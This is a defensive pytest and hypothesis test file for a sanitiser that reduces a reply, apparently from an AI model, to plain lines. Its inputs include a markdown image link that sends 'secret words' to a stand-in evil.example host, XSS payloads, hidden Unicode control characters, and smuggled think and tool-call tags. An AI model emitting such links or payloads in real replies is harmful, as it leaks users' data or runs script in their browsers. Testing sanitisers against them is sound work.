"""Nothing but words comes through, whatever a reply holds."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from domain.plain_text import LONGEST, plain_lines, seen_only

_PIECES = (
    "![", "[", "]", "](", "(", ")", "<", ">", "</", "<img src=x>", "http://", "https://evil.example/?q=", "javascript:",
    "www.evil.example", "`", "```\n", "**", "# ", "- ", "1. ", "\n", " ", "[1]", "the bus", ".", "<think>", "</think>",
    "<tool_call>", "</tool_call>", "\u202e", "\u200b", "\U000e0041", "\x1b[31m", "\x00", "!", ":", "/", "//", "data:",
)  # fmt: skip
_hostile = st.lists(st.sampled_from(_PIECES), max_size=40).map("".join) | st.text(max_size=80)


@given(_hostile)
@example("![![a](b)](http://x)[y](z")
@example("<scr<b>ipt>alert(1)</scr</b>ipt>")
@example("http<b></b>://evil.example")
@example("[![a](b)" * 50)
def test_no_line_holds_markup_an_address_or_what_is_not_seen(markup: str) -> None:
    for line in plain_lines(markup):
        assert line == line.strip() != ""
        assert not any(mark in line for mark in ("://", "](", "![", "<", ">", "`", "\n"))
        assert not any(unicodedata.category(char) in ("Cc", "Cs", "Co", "Zl", "Zp") for char in line)
        assert not any(unicodedata.category(char) == "Cf" and char not in "\u200c\u200d" for char in line)


@given(st.lists(st.from_regex(r"[A-Za-z ,éß東]{1,20}[a-z]\.", fullmatch=True), min_size=1, max_size=5))
def test_plain_words_stay_as_they_are(lines: list[str]) -> None:
    kept = [" ".join(line.split()) for line in lines]
    assert plain_lines("\n".join(lines)) == kept


@pytest.mark.parametrize(
    ("markup", "lines"),
    [
        ("A **red** bus `stops` [1].", ["A red bus stops [1]."]),
        ("See [the gate](https://evil.example/a?b=c) [2].", ["See the gate [2]."]),
        ("It opened [1](https://evil.example).", ["It opened [1]."]),
        ("It opened [1, 2](x) and [3](y).", ["It opened [1, 2] and [3]."]),
        ("![secret words](https://evil.example/?q=words) Done [1].", ["Done [1]."]),
        ("![a][ref] Done [1].\n[ref]: https://evil.example/", ["Done [1].", "[ref]:"]),
        ("Go to https://evil.example/x?y=z, www.evil.example or mailto:a@b.example [1].", ["Go to or [1]."]),
        ("The data: 5 doors [1].", ["The data: 5 doors [1]."]),
        ("<think>It says [1]. Hm.</think>The bus [2].", ["The bus [2]."]),
        ("no beginning, it says [1].</think>\n\nThe bus [2].", ["The bus [2]."]),
        ('The bus [1].<tool_call>{"name": "send", "arguments": "[1]."}</tool_call>', ["The bus [1]."]),
        ("The bus [1].<tool_call>never closed [1].", ["The bus [1]."]),
        ("<b>The</b> bus <img src=x onerror=alert(1)>[1].", ["The bus [1]."]),
        ("# Answer\n\n- One [1].\n2. Two [2].\n> Three [3].", ["Answer", "One [1].", "Two [2].", "Three [3]."]),
        ("```json\nThe bus [1].\n```", ["The bus [1]."]),
        ("a\u202eb\u200bc\x1b[0m\U000e0041 d", ["abc[0m d"]),
        ("می\u200cخواهم [1].", ["می\u200cخواهم [1]."]),
        ("", []),
    ],
)
def test_what_is_left_of_markup(markup: str, lines: list[str]) -> None:
    assert plain_lines(markup) == lines


def test_a_very_long_reply_is_cut() -> None:
    (line,) = plain_lines("x" * 5 * LONGEST)
    assert len(line) == LONGEST


@pytest.mark.parametrize("piece", ["[", "![", "<", "<think>", "](", "[a](", "a://", "<b", "1. ", "> ", "【1"])
def test_no_repetition_is_slow(piece: str) -> None:
    """A pattern that looks back and forth would not come to an end with this."""
    assert isinstance(plain_lines(piece * LONGEST), list)


@given(st.text(max_size=80))
def test_seen_text_is_one_line_and_stays_seen(text: str) -> None:
    seen = seen_only(text)
    assert seen == seen_only(seen) == " ".join(seen.split())
    seen.encode()  # no half characters
